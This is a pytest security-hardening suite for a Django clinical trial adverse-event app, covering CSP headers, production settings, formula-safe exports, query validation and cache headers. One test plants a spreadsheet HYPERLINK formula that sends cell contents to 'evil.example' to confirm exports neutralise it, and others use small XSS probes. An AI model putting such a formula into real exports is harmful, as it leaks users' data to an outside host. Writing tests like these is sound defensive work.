"""Hardening: Content-Security-Policy, the production deployment check, formula-safe exports and validated
query parameters.

The deployment gate itself (``manage.py check --deploy --fail-level WARNING`` with production settings) is
``tests/test_compose.py::test_django_deployment_checks_pass_with_the_compose_environment``; here it is shown
that the same gate fails on a broken production setting, and that production loads the security layers.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
import yaml
from rest_framework.test import APIClient

from reports.exports import FORMULA_PREFIXES
from tests.conftest import api_errors, event_form_data, make_cycle, make_event, make_patient
from tests.test_compose import COMPOSE, run_with_compose_environment

pytestmark = pytest.mark.django_db

EXPECTED_CSP = {
    "default-src": "'self'", "script-src": "'self'", "style-src": "'self'", "img-src": "'self' data:",
    "connect-src": "'self'", "object-src": "'none'", "base-uri": "'self'", "form-action": "'self'",
    "frame-ancestors": "'none'",
}


def csp_directives(response) -> dict[str, str]:
    header = response["Content-Security-Policy"]
    return dict((part.strip().split(" ", 1) + [""])[:2] for part in header.split(";") if part.strip())


# --- Content-Security-Policy -----------------------------------------------------------------------------------


def test_every_kind_of_response_carries_the_policy(client, nurse, patient):
    responses = [client.get("/login/")]
    client.force_login(nurse)
    responses += [client.get(f"/patients/{patient.pk}/"), client.get("/api/v1/patients/"),
                  client.get("/no-such-page/")]
    for response in responses:
        assert csp_directives(response) == EXPECTED_CSP, response.request["PATH_INFO"]
        assert "unsafe-inline" not in response["Content-Security-Policy"]
        assert "unsafe-eval" not in response["Content-Security-Policy"]


class InlineCode(HTMLParser):
    """Collect what a CSP without 'unsafe-inline' would block: inline scripts and styles, event-handler and
    style attributes, javascript: URLs."""

    def __init__(self):
        super().__init__()
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script":
            self._script = "src" not in attrs and attrs.get("type", "text/javascript") in ("text/javascript",
                                                                                            "module")
        if tag == "style":
            self.found.append("<style>")
        for name, value in attrs.items():
            if name.startswith("on") or name == "style":
                self.found.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action") and (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}=javascript:>")

    def handle_data(self, data):
        if self._script and data.strip():
            self.found.append(f"inline script: {data.strip()[:40]}")

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = False


def inline_code(html: str) -> list[str]:
    parser = InlineCode()
    parser.feed(html)
    return parser.found


def test_the_inline_code_detector_finds_what_csp_blocks():
    assert sorted(inline_code('<script>alert(1)</script><p onclick="x()" style="color:red">')) == [
        "<p onclick=...>", "<p style=...>", "inline script: alert(1)"]
    assert inline_code('<script src="/static/a.js"></script><script type="application/json">{}</script>') == []


def test_the_pages_contain_no_code_the_policy_would_block(client, nurse, officer, patient, cycle):
    make_event(cycle, user=nurse)
    pages = [("/login/", None), (f"/sites/{patient.site.slug}/patients/", nurse),
             (f"/patients/{patient.pk}/", nurse), (f"/patients/{patient.pk}/events/new/", nurse),
             (f"/patients/{patient.pk}/cycles/new/", nurse), (f"/sites/{patient.site.slug}/report/", officer)]
    for url, user in pages:
        client.logout()
        if user:
            client.force_login(user)
        response = client.get(url)
        assert response.status_code == 200, url
        assert inline_code(response.text) == [], url


def test_an_invalid_form_page_is_also_free_of_inline_code(client, nurse, patient, cycle):
    client.force_login(nurse)
    response = client.post(f"/patients/{patient.pk}/events/new/", event_form_data(cycle, grade=9))
    assert response.status_code == 200
    assert inline_code(response.text) == []


# --- production settings ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def compose_services() -> dict:
    return yaml.safe_load(COMPOSE.read_text())["services"]


def test_the_deployment_gate_fails_on_a_broken_production_setting(compose_services, tmp_path):
    """The gate in tests/test_compose.py can fail: DEBUG switched on in production is a warning, so an error."""
    broken = {**compose_services["web"], "environment": {**compose_services["web"]["environment"], "DEBUG": "true"}}
    result = run_with_compose_environment(["manage.py", "check", "--deploy", "--fail-level", "WARNING"],
                                          {"web": broken}, tmp_path)
    assert result.returncode != 0
    assert "security.W018" in result.stdout + result.stderr


def test_production_loads_lockout_tokens_and_the_policy(compose_services, tmp_path):
    probe = ("import json, django; django.setup(); from django.conf import settings as s; "
             "print(json.dumps({'backends': s.AUTHENTICATION_BACKENDS, 'middleware': s.MIDDLEWARE, "
             "'auth': s.REST_FRAMEWORK['DEFAULT_AUTHENTICATION_CLASSES'], 'limit': s.AXES_FAILURE_LIMIT, "
             "'cooloff': s.AXES_COOLOFF_TIME.total_seconds(), 'ttl': s.REST_KNOX['TOKEN_TTL'].total_seconds(), "
             "'csp': s.CONTENT_SECURITY_POLICY['DIRECTIVES']['default-src'], 'session': s.SESSION_COOKIE_AGE, "
             "'browser_close': s.SESSION_EXPIRE_AT_BROWSER_CLOSE, 'handler': s.AXES_HANDLER, "
             "'client_ip': s.AXES_CLIENT_IP_CALLABLE, 'proxies': s.PVTRACK_TRUSTED_PROXIES}))")
    result = run_with_compose_environment(["-c", probe], compose_services, tmp_path)
    assert result.returncode == 0, result.stderr
    loaded = json.loads(result.stdout.strip().splitlines()[-1])
    assert loaded["backends"][0] == "axes.backends.AxesStandaloneBackend"
    assert loaded["middleware"][-1] == "axes.middleware.AxesMiddleware"
    assert "csp.middleware.CSPMiddleware" in loaded["middleware"]
    # the token class first: a missing or bad token answers 401 with WWW-Authenticate: Token (issue 16); it is
    # core.api.TokenAuthentication minus the tokens created before the auth epoch (issue 19)
    assert loaded["auth"] == ["pvtrack.auth_epoch.EpochTokenAuthentication",
                              "rest_framework.authentication.SessionAuthentication"]
    assert (loaded["limit"], loaded["cooloff"], loaded["ttl"]) == (5, 15 * 60, 10 * 3600)
    assert (loaded["handler"], loaded["client_ip"]) == ("core.lockout.TieredLockoutHandler", "core.clientip.client_ip")
    assert loaded["proxies"] == 1  # docker-compose.yml: one TLS proxy in front of gunicorn
    assert "core.nostore.NoStoreMiddleware" in loaded["middleware"]
    assert loaded["csp"] == ["'self'"]
    assert (loaded["session"], loaded["browser_close"]) == (30 * 60, True)


# --- formula injection through the real exports ------------------------------------------------------------------


def xlsx_cells(content: bytes) -> tuple[list[str], int]:
    """All text cells of a workbook (shared and inline strings) and the number of formula cells."""
    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        texts, formulas = [], 0
        for name in book.namelist():
            if name == "xl/sharedStrings.xml":
                root = ElementTree.fromstring(book.read(name))  # noqa: S314 - the app's own output
                texts += ["".join(t.text or "" for t in si.iter(f"{ns}t")) for si in root.iter(f"{ns}si")]
            elif re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                root = ElementTree.fromstring(book.read(name))  # noqa: S314 - the app's own output
                formulas += len(list(root.iter(f"{ns}f")))
                texts += ["".join(t.text or "" for t in c.iter(f"{ns}t")) for c in root.iter(f"{ns}is")]
    return texts, formulas


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_a_formula_in_the_only_free_text_that_reaches_the_exports_stays_text(client, ward, nurse, prefix):
    """The table's cells hold CTCAE catalogue text, counts and the footnote; the one free text is the site's
    name (patient study IDs are not in the table, verbatim terms neither). A name that is a formula never
    starts a cell and no formula cell is written."""
    formula = 'HYPERLINK("http://evil.example/?"&A1,"Ward A")'
    ward.name = prefix + formula
    ward.save()
    make_event(make_cycle(make_patient(ward, "KRK-001")), user=nurse)
    client.force_login(nurse)
    text = b"".join(client.get(f"/sites/{ward.slug}/export.csv").streaming_content).decode()
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert any(formula in c for c in cells)
    assert [c for c in cells if c.startswith(FORMULA_PREFIXES)] == []
    texts, formulas = xlsx_cells(client.get(f"/sites/{ward.slug}/export.xlsx").getvalue())
    assert formulas == 0
    assert any(formula in t for t in texts)
    assert [t for t in texts if t.startswith(FORMULA_PREFIXES)] == []


# --- query parameters ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("query, status", [
    ("/api/v1/adverse-events/?grade=abc", 400),
    ("/api/v1/adverse-events/?patient=%00", 400),
    ("/api/v1/cycles/?patient=99999999999999999999999", 400),
    ("/api/v1/patients/?disease_status=nonsense", 400),
    ("/api/v1/benchmark-runs/?status=%00", 400),
    ("/api/v1/ctcae-terms/?search=a%00b", 400),
    ("/api/v1/patients/?limit=-5&offset=x", 200),
    ("/api/v1/patients/99999999999999999999/", 404),
])
def test_bad_query_parameters_answer_4xx_not_5xx(nurse, query, status):
    api = APIClient()
    api.force_authenticate(nurse)
    assert api.get(query).status_code == status


@pytest.mark.parametrize("field, value", [("term", "Tremor\x00"), ("site", "ward-a\x00")])
def test_a_nul_character_in_a_slug_field_is_a_400_not_a_database_error(nurse, cycle, field, value):
    """Found by the schemathesis run: PostgreSQL refuses NUL in text, which used to answer 500."""
    api = APIClient()
    api.force_authenticate(nurse)
    if field == "term":
        body = {"patient": cycle.patient_id, "cycle": cycle.pk, "term": value, "grade": 1,
                "onset_date": cycle.start_date.isoformat()}
        response = api.post("/api/v1/adverse-events/", body, format="json")
    else:
        body = {"site": value, "study_id": "KRK-777", "sex": "F", "birth_month": "2015-03-01",
                "disease_status": "relapse_1"}
        response = api.post("/api/v1/patients/", body, format="json")
    assert response.status_code == 400
    assert field in api_errors(response)


@pytest.mark.django_db
def test_an_invalid_boolean_filter_answers_400_not_a_silently_unfiltered_list(client, nurse):
    client.force_login(nurse)
    response = client.get("/api/v1/adverse-events/?serious=maybe")
    assert response.status_code == 400 and "serious" in api_errors(response)
    assert client.get("/api/v1/adverse-events/?serious=true").status_code == 200


# --- issue 11 finding 5: caches and the schema ------------------------------------------------------------------


def test_pages_and_api_answers_are_never_stored_in_a_cache(client, nurse, patient):
    client.force_login(nurse)
    for url in ("/api/v1/patients/", f"/patients/{patient.pk}/", "/sites/ward-a/patients/", "/login/",
                "/sites/ward-a/export.csv", "/api/v1/nonexistent/"):
        response = client.get(url)
        assert "no-store" in response.get("Cache-Control", ""), (url, response.status_code)
        assert "private" in response["Cache-Control"]


def test_the_api_schema_is_served_to_logged_in_users_only(client, nurse):
    assert client.get("/api/v1/schema/").status_code in (401, 403)
    client.force_login(nurse)
    response = client.get("/api/v1/schema/")
    assert response.status_code == 200 and b"/api/v1/adverse-events/" in response.content
